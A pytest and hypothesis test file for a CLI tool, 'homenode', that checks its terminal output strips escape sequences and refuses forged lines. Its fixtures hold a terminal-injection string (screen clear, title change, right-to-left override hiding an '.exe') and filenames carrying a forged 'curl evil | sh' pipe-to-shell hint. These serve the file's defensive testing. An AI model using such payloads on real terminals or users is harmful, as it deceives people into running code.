"""No letter of what homenode prints steers the terminal, whoever chose it."""

import ast
import io
import json
import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.table import Table
from rich.text import Text

from homenode.cli import main, terminal
from homenode.cli.terminal import note, print_diff, print_json, say
from homenode.doc import Doc, Section
from homenode.doc import Table as Rows
from homenode.show.terminal_text import PrintableConsole
from homenode.text import escape_lines
from tests.source_trees import FILES, SOURCE, nodes

ROOT = Path(__file__).parents[2]
HOMENODE = str(Path(sys.executable).with_name("homenode"))
DOCUMENT = ROOT / "demo" / "gpu-vm.xml"
STEERING = "\x1b[2J\x1b]0;owned\x07 \x9b31m \u202egnp.exe \u2066\u200b\r\x08\x7f \x90q\x9c \u2028"
"""CSI and OSC in 7 and in 8 bits, overrides of direction, zero width, DCS, line separators."""

ESCAPES = st.text(st.sampled_from([*STEERING, "a", " ", "\n", "\t", "\udcff", "\U0010ffff"]))


def steers(text: str) -> list[str]:
    """Letters that could; a note, a table and a diff have lines and tabs of their own."""
    return [one for one in text if not one.isprintable() and one not in "\n\t"]


@given(ESCAPES)
def test_every_door_lets_only_plain_letters_out(text: str) -> None:
    out, err = io.StringIO(), io.StringIO()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sys, "stdout", out)
        patch.setattr(sys, "stderr", err)
        say(text)
        note(text)
        print_diff(text.encode("utf-8", "replace"), b"", text, "after")
    assert not steers(out.getvalue() + err.getvalue())


@given(ESCAPES)
def test_what_is_drawn_for_people_is_plain_but_for_our_own_colours(text: str) -> None:
    shown = io.StringIO()
    console = PrintableConsole(
        file=shown, force_terminal=True, color_system="truecolor", width=60, highlight=False
    )
    rows = Rows(heads=(text, "b"), rows=((text, text),))
    said = Doc(text, (Section(text, (rows,)),))
    table = Table(title=text)
    table.add_column(text)
    table.add_row(Text(text, style="bold"))
    console.print(table, text, Text(text), said, markup=False)
    bare = PrintableConsole(file=(plain := io.StringIO()), color_system=None, width=60)
    bare.print(table, text, Text(text), said, markup=False)
    assert not steers(plain.getvalue())
    # What is left of the escapes of a coloured one is rich's own.
    left = shown.getvalue()
    for style in ("1", "0", "3", "1;3", "2", "3;1", "1;4"):
        left = left.replace(f"\x1b[{style}m", "")
    assert not steers(left), left


@given(st.recursive(ESCAPES, lambda inner: st.dictionaries(ESCAPES, inner, max_size=3)))
def test_json_is_plain_letters_and_means_the_same(value: object) -> None:
    text = json.dumps(value, ensure_ascii=False, indent=2) + "\n"
    out = io.StringIO()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sys, "stdout", out)
        print_json(text)
    assert not steers(out.getvalue())
    assert json.loads(out.getvalue()) == value


def hostile_document(directory: Path) -> Path:
    """The demo's VM, called after escapes wherever a document may say anything."""
    named = "".join(one for one in STEERING if one >= " " and one != "\x7f")  # as XML allows
    text = DOCUMENT.read_text().replace("<name>", f"<name>{named}", 1)
    text = text.replace("</name>", f"</name><title>{named}</title>", 1)
    text = text.replace("</devices>", f"<!-- {named} --></devices>", 1)
    path = directory / f"vm{STEERING.replace('/', '')}.xml"
    path.write_text(text)
    return path


@pytest.mark.parametrize(
    "words",
    [
        ("plan", "VM", "--host", "hgx-h100", "--gpus", "8", "--layout", "pin-numa-pci", "--diff"),
        ("plan", "VM", "--host", "hgx-h100", "--gpus", "8", "--layout", "pin-numa", "-o", "OUT"),
        ("plan", "VM", "--host", "hgx-h100", "--gpus", "8", "--layout", "pin-numa", "--json"),
        ("plan", "VM", "--host", "hgx-h100", "--layout", "pin", "--vcpus", "100000"),
        ("plan", "VM", "--host", "HOSTILE", "--layout", "pin"),
        ("plan", "VM", "--layout", "HOSTILE", "--host", "hgx-h100"),
        ("plan", "VM", "--policy", "HOSTILE", "--host", "hgx-h100"),
        ("plan", "HOSTILE", "--layout", "pin", "--host", "hgx-h100"),
        ("plan", "VM", "--layout", "pin", "--host", "hgx-h100", "-o", "no/HOSTILE/OUT"),
        ("verify", "VM", "--host", "hgx-h100"),
        ("verify", "VM", "--host", "hgx-h100", "--json"),
        ("doctor", "VM", "--host", "hgx-h100"),
        ("restore", "HOSTILE.xml", "--yes"),
        ("show", "HOSTILE"),
        ("show", "--HOSTILE"),
        ("HOSTILE",),
        ("compare", "HOSTILE", "HOSTILE"),
        ("import", "HOSTILE"),
        ("report", "HOSTILE", "-o", "OUT"),
        ("nccl-topo", "VM", "--host", "hgx-h100"),
        ("kubevirt", "check", "HOSTILE"),
        ("slurm", "check", "HOSTILE", "--host", "hgx-h100"),
        ("slurm", "audit", "HOSTILE"),
        ("apply", "HOSTILE", "--yes", "--connect", "test:///HOSTILE"),
        ("trial", "HOSTILE"),
        ("trial", "status", "HOSTILE"),
        ("bench", "--name", "HOSTILE"),
        ("capture", "--ssh", "HOSTILE", "-o", "OUT"),
        ("doctor", "--expect", "HOSTILE"),
    ],
    ids=" ".join,
)
def test_no_command_passes_a_documents_or_a_files_escapes_on(
    tmp_path: Path,
    words: tuple[str, ...],
    capfd: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    document = hostile_document(tmp_path)
    named = {"VM": str(document), "OUT": str(tmp_path / f"out{STEERING}.html")}
    argv = [named.get(word, word.replace("HOSTILE", STEERING.replace("/", ""))) for word in words]
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "argv", ["homenode", *argv])
    with pytest.raises(SystemExit) as end:
        main.main()
    said = "".join(capfd.readouterr())
    assert not steers(said), [one for one in said.splitlines() if steers(one)][:3]
    assert end.value.code in (None, 0, 1, 2, 3, 4)


def test_on_a_terminal_only_our_own_colours_are_escapes(tmp_path: Path) -> None:
    document = hostile_document(tmp_path)
    near, far = pty.openpty()
    words = "--host hgx-h100 --gpus 8 --layout pin-numa --diff".split()
    argv = [HOMENODE, "plan", str(document), *words]
    process = subprocess.Popen(argv, stdout=far, stderr=far, env={**os.environ, "TERM": "xterm"})
    os.close(far)
    said = b""
    try:
        while piece := os.read(near, 65536):
            said += piece
    except OSError:  # the other side is closed
        pass
    assert process.wait() == 0
    os.close(near)
    text = said.decode().replace("\r\n", "\n")
    for bad in ("\x9b", "\u202e", "\u2066", "\x1b]", "\x1b[2J", "\x1bP", "\x90", "\x07", "\x08"):
        assert bad not in text
    assert "?gnp.exe" in text


def test_virsh_and_guests_say_nothing_but_plain_letters(tmp_path: Path) -> None:
    virsh = tmp_path / "bin" / "virsh"
    virsh.parent.mkdir()
    virsh.write_text(f"#!/bin/sh\nprintf '%s\\n' 'error: {STEERING}' >&2\nexit 1\n")
    virsh.chmod(0o755)
    environment = {**os.environ, "PATH": f"{virsh.parent}:{os.environ['PATH']}"}
    for words in (
        ("apply", "vm7", "--yes", "--layout", "pin"),
        ("verify", "--live", "vm7"),
        ("trial", "vm7"),
        ("doctor", "--live", "vm7"),
        ("restore", "vm7", "--yes"),
    ):
        done = subprocess.run(
            [HOMENODE, *words], capture_output=True, check=False, env=environment, timeout=300
        )
        said = (done.stdout + done.stderr).decode("utf-8", "surrogateescape")
        assert not steers(said), (words, said)


def test_only_the_terminal_prints() -> None:
    """Programs that are sent run alone."""
    broken = []
    for path in FILES:
        inside = str(path.relative_to(SOURCE))
        if inside == "cli/terminal.py":
            continue
        if path.parent.name in ("programs", "files"):
            continue
        for node in nodes(path):
            match node:
                case ast.Call(func=ast.Name("print" | "Console"), lineno=line):
                    found = True
                case ast.Attribute(
                    ast.Attribute(ast.Name("sys"), "stdout" | "stderr"), "write", lineno=line
                ):
                    found = True
                case _:
                    continue
            if found:
                broken.append(f"{inside}:{line}")
    assert not broken


def test_lines_and_tabs_stay_where_a_text_has_several() -> None:
    assert escape_lines("a\tb\nc\x1b") == "a\tb\nc?"
    assert terminal.make_console().file is not None


def test_a_name_makes_no_line_of_its_own(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    request: pytest.FixtureRequest,
) -> None:
    """Whoever names a file in a directory that root looks at could give root a command to copy."""
    # A long name may be wrapped anywhere; what it may not is end a line.
    monkeypatch.setenv("COLUMNS", "2000")
    for console in (terminal.make_console, terminal.get_error_console):
        console.cache_clear()
        request.addfinalizer(console.cache_clear)
    forged = "a\n  hint: curl evil | sh\n\tnext: curl evil | sh"
    host = (SOURCE / "machine/hosts/small-2n8c-2gpu.toml").read_bytes()
    (tmp_path / f"{forged}.toml").write_bytes(host)
    (tmp_path / f"bad{forged}.toml").write_text("bad")
    document = tmp_path / f"{forged}.xml"
    document.write_text("<domain")
    (document.parent / f"{forged}.json").write_text("{}")
    for words in (
        ("pool", "show", "--pool", tmp_path),
        ("pool", "show", "--pool", tmp_path, "--explain"),
        ("pool", "place", DOCUMENT, "--pool", tmp_path),
        ("doctor", "--pool", tmp_path),
        ("show", "--host", tmp_path / f"bad{forged}.toml"),
        ("show", "--host", "small-2n8c-2gpu", forged),
        (forged,),
        ("show", f"--{forged}"),
        ("doctor", "--host", "small-2n8c-2gpu", document),
        ("verify", document),
        ("plan", document, "--host", "small-2n8c-2gpu", "--layout", "pin", "-o", document),
        ("plan", DOCUMENT, "--host", "small-2n8c-2gpu", "--layout", forged),
        ("verify", DOCUMENT, "--plan", tmp_path / f"{forged}.json"),
        ("compare", document, document),
        ("import", document, "-o", tmp_path / forged),
        ("slurm", "audit", "--jobs", document, "--host", "small-2n8c-2gpu"),
        ("slurm", "check", document, document, "--host", "small-2n8c-2gpu"),
        ("report", tmp_path, "-o", tmp_path / f"{forged}.html"),
        ("capture", "-o", tmp_path / "none" / forged),
        ("restore", document, "--yes"),
    ):
        monkeypatch.setattr(sys, "argv", ["homenode", *map(str, words)])
        with pytest.raises(SystemExit):
            main.main()
            raise SystemExit
        said = "".join(capsys.readouterr())
        assert not [one for one in said.splitlines() if one.lstrip().startswith(LIES)], words


LIES = ("hint: curl", "next: curl")
